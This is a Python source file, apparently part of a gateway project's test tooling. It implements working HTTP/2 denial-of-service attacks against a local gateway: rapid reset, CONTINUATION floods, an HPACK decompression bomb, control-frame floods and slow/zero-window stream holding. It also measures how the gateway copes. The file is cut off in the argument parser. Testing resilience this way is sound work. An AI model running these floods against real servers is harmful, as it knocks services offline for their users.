#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""contrib/h2attack.py - HTTP/2 attackers for contrib/h2attack.sh.

One attack per run, against one gateway on 127.0.0.1, with hand-made frames
(struct; request heads encoded by hand with HPACK's static table, responses
decoded with python3-hpack), over plain TCP with prior knowledge (h2c) or,
with --tls, TLS with ALPN h2. Standard library and hpack only.

    /usr/bin/python3 contrib/h2attack.py SCENARIO --port N [options]

Scenarios (each on --conns connections, reconnecting as soon as one is cut,
that is when the gateway sends GOAWAY or closes it):

  rapid-reset    HEADERS (GET, END_STREAM) + RST_STREAM(CANCEL) pairs, as
                 fast as it can (CVE-2023-44487)
  continuation   the gateway's SETTINGS acknowledged, then HEADERS without
                 END_HEADERS and empty CONTINUATION frames without
                 END_HEADERS for ever, nothing else in between (the 2024
                 CONTINUATION floods; CVE-2024-28182 in nghttp2)
  settings       empty SETTINGS frames
  ping           PING frames
  priority       PRIORITY frames for 4,096 idle streams, over and over
  window-update  WINDOW_UPDATE(stream 0, +1) frames
  empty-data     a POST's HEADERS (content-length 1000000), then empty DATA
                 frames without END_STREAM
  hpack-bomb     a 4,061-byte field indexed once (it fills the 4 KiB
                 dynamic table), then each HEADERS references it --refs
                 times (one byte each; by default as many as fill a 16 KiB
                 frame, 12,268: 50 MB decoded per request); --inflight
                 streams at once
  stream-ids     GETs on stream ids jumping from 1 to 2^31-1 (1, 3, 2^16+1,
                 2^24+1, 2^28+1, 2^30+1, 2^31-2^21+1, 2^31-2^20+1,
                 2^31-2^12+1, 2^31-1), one at a time, each waiting for its
                 answer; then (or at the GOAWAY) a new connection
  zero-window    SETTINGS_INITIAL_WINDOW_SIZE 0, then --streams GETs of a
                 1 MiB body per connection, never a WINDOW_UPDATE; streams
                 the gateway ends are opened again, once a second
  slow-streams   --streams POSTs (content-length 1000000) per connection
                 (at most the gateway's SETTINGS_MAX_CONCURRENT_STREAMS),
                 each sending a 1-byte DATA every --interval s (+-50 %);
                 streams the gateway ends are opened again, once a second
  probe          one GET, prints its status (a check of the framing)
  cpuhog         no connection: a busy loop (what the attacker's CPU use
                 alone costs the normal traffic)

Also, for contrib/h2attack.sh: "report-run DIR" summarizes one measurement's
files into DIR/summary.json, "report RUNS" prints the tables of them all.

Runs until --duration, SIGTERM or SIGINT, then prints one JSON object on
stdout: bytes sent, received, and READ by the gateway (see Diag below:
bytes sent may sit unread in the kernel's buffers, megabytes a connection
on loopback; the attacker never runs more than --ahead bytes past what the
gateway read), connections opened, how each ended (the GOAWAY's error
code, a close or reset by the gateway, still open at the end: then for how
long, and whether the gateway still read it), the bytes the gateway read
of each connection and its age at the cut, requests and resets sent,
statuses and RST_STREAM codes received. Connections close with a reset
(SO_LINGER 0): no TIME_WAIT.
"""

import argparse
import json
import os
import random
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, \
    GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20
S_HEADER_TABLE_SIZE, S_ENABLE_PUSH, S_MAX_CONCURRENT_STREAMS, \
    S_INITIAL_WINDOW_SIZE, S_MAX_FRAME_SIZE, S_MAX_HEADER_LIST_SIZE = range(1, 7)
CANCEL = 8
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR",
          "SETTINGS_TIMEOUT", "STREAM_CLOSED", "FRAME_SIZE_ERROR",
          "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
          "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
MAX_ID = 0x7fffffff
CHUNK = 64 * 1024          # bytes a flood hands the socket at a time
SEND_MAX = 4 * 1024 * 1024  # bytes one connection may send per loop turn


def errname(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xffff, ftype, flags,
                       sid & MAX_ID) + payload


# ---- HPACK by hand (RFC 7541): static table only, nothing indexed --------
def hp_int(value, prefix, first=0):
    top = (1 << prefix) - 1
    if value < top:
        return bytes([first | value])
    out = bytearray([first | top])
    value -= top
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_str(s):
    b = s.encode() if isinstance(s, str) else s
    return hp_int(len(b), 7) + b


def hp_lit(index, value):
    """Literal without indexing, name from the static table."""
    return hp_int(index, 4) + hp_str(value)


def hp_lit_new_indexed(name, value):
    """Literal with incremental indexing, new name."""
    return b"\x40" + hp_str(name) + hp_str(value)


# static table indices (RFC 7541 appendix A)
IX_AUTHORITY, IX_PATH, IX_CONTENT_LENGTH, IX_USER_AGENT = 1, 4, 28, 58


def request_block(method, path, authority, tls, content_length=None):
    b = bytearray(b"\x82" if method == "GET" else b"\x83")  # :method
    b += b"\x87" if tls else b"\x86"                         # :scheme
    b += hp_lit(IX_PATH, path)
    b += hp_lit(IX_AUTHORITY, authority)
    b += hp_lit(IX_USER_AGENT, "h2attack")
    if content_length is not None:
        b += hp_lit(IX_CONTENT_LENGTH, str(content_length))
    return bytes(b)


# ---- results ------------------------------------------------------------
class Stats:
    def __init__(self, scenario):
        self.scenario = scenario
        self.t0 = time.monotonic()
        self.bytes_sent = 0
        self.bytes_recv = 0
        self.bytes_read = 0     # of bytes_sent, read by the gateway
        self.cut_sent = []      # bytes sent by a connection before its cut
        self.ahead_waits = 0
        self.read_upper = 0     # connections whose read count is the
        #                         bytes acknowledged (socket gone at the cut)
        self.conns = 0
        self.connect_errors = 0
        self.ends = {}          # how connections ended -> count
        self.cut_bytes = []     # bytes the gateway read of a connection
        #                         before its cut
        self.cut_secs = []      # its age at the cut
        self.open_bytes = []    # connections open at the end: bytes sent
        self.open_stalled = []  # ... and seconds since a write last progressed
        self.max_stall = 0.0    # longest a connection could not write
        self.still_going = 0    # open at the end, > 2 s old, being read
        self.open_age_max = 0.0
        self.frames = {}        # attack frames sent, by kind
        self.requests = 0
        self.resets_sent = 0
        self.statuses = {}
        self.rst_recv = {}
        self.goaway_last_ids = []
        self.notes = {}

    def count(self, d, k, n=1):
        d[k] = d.get(k, 0) + n

    def note(self, k, n=1):
        self.notes[k] = self.notes.get(k, 0) + n

    def summary(self):
        def med(v):
            v = sorted(v)
            return v[len(v) // 2] if v else None
        return {
            "scenario": self.scenario,
            "seconds": round(time.monotonic() - self.t0, 2),
            "bytes_sent": self.bytes_sent,
            "bytes_recv": self.bytes_recv,
            "bytes_read_by_gateway": self.bytes_read,
            "ahead_waits": self.ahead_waits,
            "read_upper_bound": self.read_upper,
            "cut_sent_median": med(self.cut_sent),
            "conns": self.conns,
            "connect_errors": self.connect_errors,
            "ends": self.ends,
            "cut": len(self.cut_bytes),
            "cut_bytes_median": med(self.cut_bytes),
            "cut_bytes_max": max(self.cut_bytes) if self.cut_bytes else None,
            "cut_secs_median": round(med(self.cut_secs), 3) if self.cut_secs else None,
            "cut_secs_max": round(max(self.cut_secs), 3) if self.cut_secs else None,
            "open_at_end": len(self.open_bytes),
            "open_bytes_max": max(self.open_bytes) if self.open_bytes else None,
            "open_stalled": sum(1 for s in self.open_stalled if s > 2.0),
            "open_age_max": round(self.open_age_max, 2),
            "still_going": self.still_going,
            "max_stall_secs": round(self.max_stall, 2),
            "frames": self.frames,
            "requests": self.requests,
            "resets_sent": self.resets_sent,
            "statuses": self.statuses,
            "rst_recv": self.rst_recv,
            "goaway_last_ids": sorted(set(self.goaway_last_ids))[:10],
            "notes": self.notes,
        }


# ---- what the gateway read: its socket's counters (sock_diag) -----------
class Diag:
    """The gateway's end of a connection, looked up by its 4-tuple with
    NETLINK_SOCK_DIAG (as ss does): tcpi_bytes_received less the bytes
    still unread in its receive queue is what the gateway has read. Bytes
    an attacker "sent" also count what sits unread in the socket buffers
    (megabytes a connection on loopback), so this is the figure reported,
    and the attacker keeps at most --ahead bytes sent but not yet read."""
    NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, INET_DIAG_INFO = 4, 20, 2

    def __init__(self, port):
        self.port = port
        self.seq = 0
        try:
            self.nl = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW,
                                    self.NETLINK_SOCK_DIAG)
        except OSError:
            self.nl = None

    def read_by_peer(self, local_port):
        """Bytes the gateway's socket for our local_port has handed to
        the gateway, or None when there is no such socket any more."""
        if self.nl is None:
            return None
        self.seq += 1
        lo = socket.inet_aton("127.0.0.1") + b"\0" * 12
        req = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP,
                          1 << (self.INET_DIAG_INFO - 1), 0, 0xffffffff)
        req += struct.pack(">HH", self.port, local_port) + lo + lo
        req += struct.pack("=III", 0, 0xffffffff, 0xffffffff)
        msg = struct.pack("=IHHII", 16 + len(req), self.SOCK_DIAG_BY_FAMILY,
                          1, self.seq, 0) + req
        try:
            self.nl.send(msg)
            data = self.nl.recv(65536)
        except OSError:
            return None
        ln, typ = struct.unpack_from("=IH", data, 0)
        if typ != self.SOCK_DIAG_BY_FAMILY or ln < 16 + 72:
            return None  # NLMSG_ERROR: no such socket
        # without an established socket the lookup finds the listener
        state, dport = data[17], struct.unpack_from(">H", data, 16 + 6)[0]
        if state == 10 or dport != local_port:
            return None
        rqueue = struct.unpack_from("=I", data, 16 + 56)[0]
        off = 16 + 72
        while off + 4 <= ln:
            alen, atyp = struct.unpack_from("=HH", data, off)
            if alen < 4:
                break
            if atyp == self.INET_DIAG_INFO and alen >= 4 + 136:
                received = struct.unpack_from("=Q", data, off + 4 + 128)[0]
                return max(received - rqueue, 0)
            off += (alen + 3) & ~3
        return None


# ---- one connection -----------------------------------------------------
class Conn:
    def __init__(self, att, sock):
        self.att = att
        self.sock = sock
        self.out = bytearray()
        self.rbuf = bytearray()
        self.sent = 0
        self.opened = time.monotonic()
        self.last_progress = self.opened
        self.blocked_since = None
        self.goaway = None          # (code, last id) once received
        self.goaway_at = None
        self.dead = False
        self.mask = 0
        self.decoder = hpack.Decoder()
        self.hblock = None          # (sid, flags, bytearray) of a header block
        self.peer_max_streams = None
        self.streams = {}           # open streams (ours) -> state dict
        self.next_sid = 1
        self.recv_data = 0          # DATA bytes received not yet credited
        self.cut_sent = None        # bytes sent when the GOAWAY came
        self.read = 0               # bytes the gateway read (last seen)
        self.cut_read = None        # ... when the GOAWAY came
        self.lport = sock.getsockname()[1]
        self.settings_seen = False  # the gateway's SETTINGS came
        self.quiet = False          # answer nothing (a header block is open)
        self.s = {}                 # the scenario's state

    # -- output
    def queue(self, b):
        self.out += b

    def peer_read(self, final=False):
        """Bytes the gateway has read of ours, as far as known. final: at
        the cut; when the gateway's socket is gone already, the bytes its
        kernel acknowledged (our TCP_INFO), an upper bound."""
        r = self.att.diag.read_by_peer(self.lport) if self.att.diag else None
        if r is not None and r >= self.read:
            self.read = r
        if r is None and final and self.att.diag:
            try:
                ti = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 256)
                acked = struct.unpack_from("=Q", ti, 120)[0]
            except (OSError, struct.error):
                acked = None
            if acked is not None and acked > self.read:
                self.att.stats.read_upper += 1
                self.read = acked
        return self.read

    def ahead(self):
        """Whether we are --ahead bytes past what the gateway read."""
        lim = self.att.args.ahead
        if not lim or self.sent - self.read <= lim:
            return False
        return self.sent - self.peer_read() > lim

    def new_sid(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    # -- input: whole frames from rbuf
    def parse(self):
        buf = self.rbuf
        i, n = 0, len(buf)
        while n - i >= 9:
            ln = (buf[i] << 16) | (buf[i + 1] << 8) | buf[i + 2]
            if n - i < 9 + ln:
                break
            ftype, flags = buf[i + 3], buf[i + 4]
            sid = ((buf[i + 5] << 24) | (buf[i + 6] << 16) | (buf[i + 7] << 8)
                   | buf[i + 8]) & MAX_ID
            if ftype in (DATA, HEADERS, CONTINUATION, SETTINGS, PING,
                         GOAWAY, RST_STREAM):
                self.on_frame(ftype, flags, sid, bytes(buf[i + 9:i + 9 + ln]))
            i += 9 + ln
            if self.dead:
                return
        if i:
            del buf[:i]

    def on_frame(self, ftype, flags, sid, p):
        att, st = self.att, self.att.stats
        if ftype == SETTINGS:
            if not flags & ACK:
                for k in range(0, len(p) - 5, 6):
                    key, val = struct.unpack_from(">HI", p, k)
                    if key == S_MAX_CONCURRENT_STREAMS:
                        self.peer_max_streams = val
                self.settings_seen = True
                if not self.quiet:
                    self.queue(frame(SETTINGS, ACK, 0))
            return
        if ftype == PING:
            if not flags & ACK and not self.quiet:
                self.queue(frame(PING, ACK, 0, p[:8]))
            return
        if ftype == GOAWAY:
            last, code = struct.unpack_from(">II", p, 0) if len(p) >= 8 else (0, 0)
            last &= MAX_ID
            if self.goaway is None:
                self.goaway = (code, last)
                self.goaway_at = time.monotonic()
                st.goaway_last_ids.append(last)
                att.scen.on_goaway(self)
            return
        if ftype == RST_STREAM:
            code = struct.unpack_from(">I", p, 0)[0] if len(p) >= 4 else 0
            st.count(st.rst_recv, errname(code))
            self.stream_done(sid, "rst")
            return
        if ftype == DATA:
            if p:
                self.recv_data += len(p)
                if (self.recv_data >= 1 << 20 and not att.scen.zero_window
                        and not self.quiet):
                    self.queue(frame(WINDOW_UPDATE, 0, 0,
                                     struct.pack(">I", self.recv_data)))
                    self.recv_data = 0
            if flags & END_STREAM:
                self.stream_done(sid, "end")
            return
        if ftype == HEADERS:
            pad = 0
            if flags & PADDED:
                pad = p[0]
                p = p[1:]
            if flags & PRIO:
                p = p[5:]
            if pad:
                p = p[:-pad]
            self.hblock = (sid, flags, bytearray(p))
        elif ftype == CONTINUATION:
            if self.hblock is None:
                return
            self.hblock[2].extend(p)
            flags = flags | (self.hblock[1] & END_STREAM)
        if not flags & END_HEADERS:
            return
        hsid, hflags, block = self.hblock
        self.hblock = None
        try:
            fields = self.decoder.decode(bytes(block))
        except Exception:  # noqa: BLE001 - a decoding error ends our view
            st.note("hpack_decode_error")
            self.kill("decode_error")
            return
        for k, v in fields:
            if k == ":status":
                if not str(v).startswith("1"):
                    st.count(st.statuses, str(v))
                    att.scen.on_response(self, hsid, str(v))
                break
        if hflags & END_STREAM:
            self.stream_done(hsid, "end")

    def stream_done(self, sid, how):
        if self.streams.pop(sid, None) is not None:
            self.att.scen.on_stream_done(self, sid, how)

    # -- the end
    def kill(self, why):
        """Ends it now, with a reset; why: how it ended."""
        if self.dead:
            return
        self.dead = True
        att, st = self.att, self.att.stats
        now = time.monotonic()
        if self.goaway is not None:
            why = "goaway_" + errname(self.goaway[0])
        st.count(st.ends, why)
        if self.cut_read is None:
            self.cut_read = self.peer_read(final=True)
        st.bytes_read += self.cut_read
        if why not in ("end", "self"):
            # cut by the gateway: what it read until the cut was seen
            st.cut_bytes.append(self.cut_read)
            st.cut_sent.append(self.sent if self.cut_sent is None else self.cut_sent)
            t = (self.goaway_at or now) - self.opened
            st.cut_secs.append(t)
        elif why == "end":
            st.open_bytes.append(self.cut_read)
            stalled = now - self.last_progress if self.blocked_since else 0.0
            st.open_stalled.append(stalled)
            # open for more than 2 s and the gateway still reading it
            if now - self.opened > 2.0 and stalled < 2.0:
                st.still_going += 1
            st.open_age_max = max(st.open_age_max, now - self.opened)
        if self.blocked_since is not None:
            st.max_stall = max(st.max_stall, now - self.blocked_since)
        try:
            att.sel.unregister(self.sock)
        except (KeyError, ValueError):
            pass
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                 struct.pack("ii", 1, 0))
        except OSError:
            pass
        try:
            self.sock.close()
        except OSError:
            pass

    def readable(self):
        st = self.att.stats
        got = 0
        while got < SEND_MAX:
            try:
                b = self.sock.recv(262144)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except (ConnectionResetError, BrokenPipeError, OSError):
                self.kill("reset")
                return
            if not b:
                self.kill("closed")
                return
            got += len(b)
            st.bytes_recv += len(b)
            self.rbuf += b
            if len(self.rbuf) >= 9:
                self.parse()
                if self.dead:
                    return
        if self.goaway is not None and not self.dead:
            self.att.scen.after_goaway(self)

    def writable(self):
        st = self.att.stats
        scen = self.att.scen
        budget = SEND_MAX
        while budget > 0:
            if self.ahead():
                self.att.stats.ahead_waits += 1
                return
            if not self.out:
                if not scen.greedy or self.goaway is not None:
                    break
                if scen.can_fill(self):
                    scen.fill(self)
                if not self.out:
                    break
            try:
                n = self.sock.send(self.out if len(self.out) <= 262144
                                   else memoryview(self.out)[:262144])
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                n = 0
            except (ConnectionResetError, BrokenPipeError, OSError):
                self.kill("reset")
                return
            if n <= 0:
                if self.blocked_since is None:
                    self.blocked_since = time.monotonic()
                return
            del self.out[:n]
            self.sent += n
            st.bytes_sent += n
            budget -= n
            now = time.monotonic()
            self.last_progress = now
            if self.blocked_since is not None:
                st.max_stall = max(st.max_stall, now - self.blocked_since)
                self.blocked_since = None

    def want(self):
        m = selectors.EVENT_READ
        scen = self.att.scen
        if self.ahead():
            pass  # until the gateway reads: a tick looks again
        elif self.out or (scen.greedy and self.goaway is None and scen.can_fill(self)):
            m |= selectors.EVENT_WRITE
        if m != self.mask:
            self.att.sel.modify(self.sock, m, self)
            self.mask = m


# ---- scenarios ----------------------------------------------------------
class Scenario:
    greedy = False          # sends as fast as the socket takes bytes
    zero_window = False
    linger_goaway = 0.0     # s to wait for answers after a GOAWAY

    def __init__(self, att):
        self.att = att
        self.a = att.args
        self.tls = att.args.tls
        self.auth = "127.0.0.1:%d" % att.args.port

    def preface(self, c):
        c.queue(PREFACE + frame(SETTINGS, 0, 0, struct.pack(
            ">HIHI", S_ENABLE_PUSH, 0, S_INITIAL_WINDOW_SIZE, 0x7fffffff)))
        c.queue(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))

    def start(self, c):
        pass

    def fill(self, c):
        pass

    def can_fill(self, c):
        return True

    def tick(self, c, now):
        pass

    def on_goaway(self, c):
        c.cut_sent = c.sent
        c.cut_read = c.peer_read(final=True)

    def after_goaway(self, c):
        if (self.linger_goaway <= 0 or not c.streams
                or time.monotonic() - c.goaway_at > self.linger_goaway):
            c.kill("goaway")

    def on_response(self, c, sid, status):
        pass

    def on_stream_done(self, c, sid, how):
        pass

    def count(self, kind, n):
        st = self.att.stats
        st.frames[kind] = st.frames.get(kind, 0) + n

    def path(self, what=None):
        return "/atk/" + (what or self.name)


class RapidReset(Scenario):
    name = "rapid-reset"
    greedy = True
    BATCH = 100

    def start(self, c):
        self.block = request_block("GET", self.path(), self.auth, self.tls)
        self.hh = struct.pack(">BHBB", 0, len(self.block), HEADERS,
                              END_STREAM | END_HEADERS)
        self.rh = struct.pack(">BHBB", 0, 4, RST_STREAM, 0)
        self.code = struct.pack(">I", CANCEL)

    def fill(self, c):
        parts = []
        pk = struct.pack
        for _ in range(self.BATCH):
            sid = c.next_sid
            if sid > MAX_ID:
                break
            c.next_sid += 2
            s = pk(">I", sid)
            parts += (self.hh, s, self.block, self.rh, s, self.code)
        if not parts:
            c.kill("self")  # ids used up
            return
        n = len(parts) // 6
        c.queue(b"".join(parts))
        st = self.att.stats
        st.requests += n
        st.resets_sent += n
        self.count("headers+rst_stream", n)


class Continuation(Scenario):
    """A header block in progress is the connection's: no other frame may
    come between its frames (RFC 9113 section 6.10), so the gateway's
    SETTINGS are acknowledged before the HEADERS, and nothing is answered
    after it (not even a PING), lest the gateway see a protocol error
    instead of the flood."""
    name = "continuation"
    greedy = True

    def start(self, c):
        self.cont = frame(CONTINUATION, 0, 1) * (CHUNK // 9)
        c.s["t0"] = time.monotonic()

    def can_fill(self, c):
        # the gateway's SETTINGS first (or 1 s without them)
        return c.settings_seen or time.monotonic() - c.s["t0"] > 1.0

    def fill(self, c):
        if "begun" not in c.s:
            c.s["begun"] = True
            c.quiet = True
            block = request_block("GET", self.path(), self.auth, self.tls)
            c.queue(frame(HEADERS, END_STREAM, 1, block))  # no END_HEADERS
            self.att.stats.requests += 1
            return
        c.queue(self.cont)
        self.count("continuation", CHUNK // 9)


class Flood(Scenario):
    greedy = True
    one = b""
    kind = ""

    def start(self, c):
        self.n = CHUNK // len(self.one)
        self.chunk = self.one * self.n

    def fill(self, c):
        c.queue(self.chunk)
        self.count(self.kind, self.n)


class SettingsFlood(Flood):
    name, kind, one = "settings", "settings", frame(SETTINGS, 0, 0)


class PingFlood(Flood):
    name, kind, one = "ping", "ping", frame(PING, 0, 0, b"h2attack")


class WindowUpdateFlood(Flood):
    name, kind, one = "window-update", "window_update", \
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


class PriorityFlood(Flood):
    name, kind = "priority", "priority"

    def start(self, c):
        # idle streams 4097, 4099, ... (above any stream this opens)
        self.chunk = b"".join(frame(PRIORITY, 0, 4097 + 2 * i,
                                    struct.pack(">IB", 0, 15))
                              for i in range(CHUNK // 14))
        self.n = CHUNK // 14


class EmptyData(Flood):
    name, kind, one = "empty-data", "empty_data", frame(DATA, 0, 1)

    def fill(self, c):
        if "begun" not in c.s:
            c.s["begun"] = True
            block = request_block("POST", self.path("hold"), self.auth,
                                  self.tls, content_length=1000000)
            c.queue(frame(HEADERS, END_HEADERS, c.new_sid(), block))
            self.att.stats.requests += 1
            c.streams[1] = {}
            return
        Flood.fill(self, c)


class HpackBomb(Scenario):
    name = "hpack-bomb"
    greedy = True
    linger_goaway = 1.0

    def start(self, c):
        base = request_block("GET", self.path(), self.auth, self.tls)
        # 3 + 4061 + 32 = 4096 bytes: the whole default table
        big = hp_lit_new_indexed("x-b", "a" * 4061)
        refs = self.a.refs or (16384 - len(base) - len(big))
        self.first = base + big + b"\xbe" * (refs - 1)
        self.rest = base + b"\xbe" * refs
        self.refs = refs
        self.att.stats.notes["decoded_bytes_per_request"] = refs * 4096

    def can_fill(self, c):
        limit = self.a.inflight
        if c.peer_max_streams is not None:
            limit = min(limit, c.peer_max_streams)
        return len(c.streams) < limit

    def fill(self, c):
        sid = c.new_sid()
        if sid > MAX_ID:
            c.kill("self")
            return
        block = self.rest if c.s.get("indexed") else self.first
        c.s["indexed"] = True
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
        c.streams[sid] = {}
        self.att.stats.requests += 1
        self.count("bomb_headers", 1)


class StreamIds(Scenario):
    name = "stream-ids"
    linger_goaway = 1.0
    LADDER = [1, 3, (1 << 16) + 1, (1 << 24) + 1, (1 << 28) + 1, (1 << 30) + 1,
              MAX_ID - (1 << 21) + 2, MAX_ID - (1 << 20) + 2,
              MAX_ID - (1 << 12) + 2, MAX_ID]

    def start(self, c):
        self.block = request_block("GET", self.path(), self.auth, self.tls)

    def send_next(self, c):
        i = c.s.get("i", 0)
        if i >= len(self.LADDER):
            # every id used: a gateway that sent no GOAWAY leaves the
            # client a connection it cannot use; it goes on a new one
            self.att.stats.note("ids_used_up_without_goaway")
            c.kill("self")
            return
        sid = self.LADDER[i]
        c.s["i"] = i + 1
        c.s["sent_at"] = time.monotonic()
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.block))
        c.streams[sid] = {}
        self.att.stats.requests += 1
        self.count("headers", 1)

    def tick(self, c, now):
        if c.goaway is not None:
            return
        if not c.streams and "i" not in c.s:
            self.send_next(c)
        elif c.streams and now - c.s["sent_at"] > 5.0:
            self.att.stats.note("no_answer_in_5s")
            c.kill("self")

    def on_response(self, c, sid, status):
        st = self.att.stats
        st.notes["highest_id_answered"] = max(st.notes.get("highest_id_answered", 0), sid)

    def on_stream_done(self, c, sid, how):
        if c.goaway is None and not c.dead:
            self.send_next(c)

    def on_goaway(self, c):
        Scenario.on_goaway(self, c)
        i = c.s.get("i", 0)
        self.att.stats.note("goaway_after_%d_streams" % i)


class Holder(Scenario):
    """Keeps --streams streams open on each connection (never more than
    the gateway's SETTINGS_MAX_CONCURRENT_STREAMS), opening again once a
    second those the gateway ends."""
    linger_goaway = 0.5

    def start(self, c):
        c.s["refill_at"] = 0.0

    def want_streams(self, c):
        n = self.a.streams
        if c.peer_max_streams is not None:
            n = min(n, c.peer_max_streams)
        return n

    def open_one(self, c, sid):
        raise NotImplementedError

    def tick(self, c, now):
        if c.goaway is not None or now < c.s["refill_at"] or not c.settings_seen:
            return
        c.s["refill_at"] = now + 1.0
        n = self.want_streams(c) - len(c.streams)
        if n > 0 and c.s.get("filled"):
            self.att.stats.note("streams_reopened", n)
        c.s["filled"] = True
        for _ in range(max(n, 0)):
            sid = c.new_sid()
            if sid > MAX_ID:
                return
            self.open_one(c, sid)


class ZeroWindow(Holder):
    name = "zero-window"
    zero_window = True

    def preface(self, c):
        c.queue(PREFACE + frame(SETTINGS, 0, 0, struct.pack(
            ">HIHI", S_ENABLE_PUSH, 0, S_INITIAL_WINDOW_SIZE, 0)))

    def start(self, c):
        Holder.start(self, c)
        self.block = request_block("GET", self.path("big"), self.auth, self.tls)

    def open_one(self, c, sid):
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.block))
        c.streams[sid] = {}
        self.att.stats.requests += 1
        self.count("headers", 1)


class SlowStreams(Holder):
    name = "slow-streams"

    def start(self, c):
        Holder.start(self, c)
        self.block = request_block("POST", self.path("hold"), self.auth,
                                   self.tls, content_length=1000000)
        self.one = b"x"

    def open_one(self, c, sid):
        c.queue(frame(HEADERS, END_HEADERS, sid, self.block))
        c.streams[sid] = {"next": time.monotonic() + self.a.interval * random.uniform(0.5, 1.5)}
        self.att.stats.requests += 1
        self.count("headers", 1)

    def tick(self, c, now):
        Holder.tick(self, c, now)
        if c.goaway is not None:
            return
        n = 0
        iv = self.a.interval
        for sid, s in c.streams.items():
            if now >= s["next"]:
                c.queue(frame(DATA, 0, sid, self.one))
                s["next"] = now + iv * random.uniform(0.5, 1.5)
                n += 1
        if n:
            self.count("data_1_byte", n)


class Probe(Scenario):
    name = "probe"

    def start(self, c):
        block = request_block("GET", self.path(), self.auth, self.tls)
        c.queue(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        c.streams[1] = {}
        self.att.stats.requests += 1

    def on_stream_done(self, c, sid, how):
        self.att.stop = True


SCENARIOS = {s.name: s for s in (
    RapidReset, Continuation, SettingsFlood, PingFlood, PriorityFlood,
    WindowUpdateFlood, EmptyData, HpackBomb, StreamIds, ZeroWindow,
    SlowStreams, Probe)}
DEFAULT_CONNS = {"zero-window": 32, "slow-streams": 20, "stream-ids": 2,
                 "probe": 1}
DEFAULT_STREAMS = {"zero-window": 20, "slow-streams": 1000}


# ---- the loop -----------------------------------------------------------
class Attacker:
    def __init__(self, args):
        self.args = args
        self.stats = Stats(args.scenario)
        self.sel = selectors.DefaultSelector()
        self.conns = [None] * args.conns
        self.retry_at = [0.0] * args.conns
        self.stop = False
        self.waiting = False  # a connection waits for the gateway to read
        self.scen = SCENARIOS[args.scenario](self)
        self.diag = Diag(args.port) if args.ahead else None
        if self.diag is not None and self.diag.nl is None:
            self.diag = None
            self.stats.note("no_sock_diag")
        self.ctx = None
        if args.tls:
            self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.ctx.check_hostname = False
            self.ctx.verify_mode = ssl.CERT_NONE
            self.ctx.set_alpn_protocols(["h2"])

    def connect(self, i):
        a = self.args
        try:
            s = socket.create_connection(("127.0.0.1", a.port), timeout=2)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if self.ctx is not None:
                s = self.ctx.wrap_socket(s, server_hostname="localhost")
                if s.selected_alpn_protocol() != "h2":
                    self.stats.note("alpn_not_h2")
                    s.close()
                    raise OSError("ALPN did not select h2")
            s.setblocking(False)
        except OSError:
            self.stats.connect_errors += 1
            self.retry_at[i] = time.monotonic() + 0.1
            return
        c = Conn(self, s)
        self.stats.conns += 1
        self.conns[i] = c
        self.scen.preface(c)
        self.scen.start(c)
        c.mask = selectors.EVENT_READ | selectors.EVENT_WRITE
        self.sel.register(s, c.mask, c)

    def run(self):
        a = self.args
        end = time.monotonic() + a.duration
        next_tick = 0.0
        while not self.stop:
            now = time.monotonic()
            if now >= end:
                break
            for i, c in enumerate(self.conns):
                if (c is None or c.dead) and now >= self.retry_at[i]:
                    self.conns[i] = None
                    self.connect(i)
            events = self.sel.select(timeout=0.001 if self.waiting else 0.02)
            for key, mask in events:
                c = key.data
                if c.dead:
                    continue
                if mask & selectors.EVENT_READ:
                    c.readable()
                if not c.dead and mask & selectors.EVENT_WRITE:
                    c.writable()
            now = time.monotonic()
            if now >= next_tick:
                next_tick = now + 0.05
                for c in self.conns:
                    if c is not None and not c.dead:
                        self.scen.tick(c, now)
                        if c.goaway is not None:
                            self.scen.after_goaway(c)
            self.waiting = False
            for c in self.conns:
                if c is not None and not c.dead:
                    if c.out and not c.mask & selectors.EVENT_WRITE:
                        c.writable()  # most writes go at once
                    if not c.dead:
                        c.want()
                        if c.sent - c.read > a.ahead > 0:
                            self.waiting = True
        for c in self.conns:
            if c is not None and not c.dead:
                c.kill("end")


def cpuhog(args):
    end = time.monotonic() + args.duration
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    n = 0
    while not stop and time.monotonic() < end:
        for _ in range(10000):
            n += 1
    print(json.dumps({"scenario": "cpuhog", "loops": n}))


def main():
    p = argparse.ArgumentParser(
        description="HTTP/2 attackers for contrib/h2attack.sh (see the "
                    "docstring at the top of this file).")
    p.add_argument("scenario", choices=sorted(SCENARIOS) + ["cpuhog"])
    p.add_argument("--port", type=int, default=0)
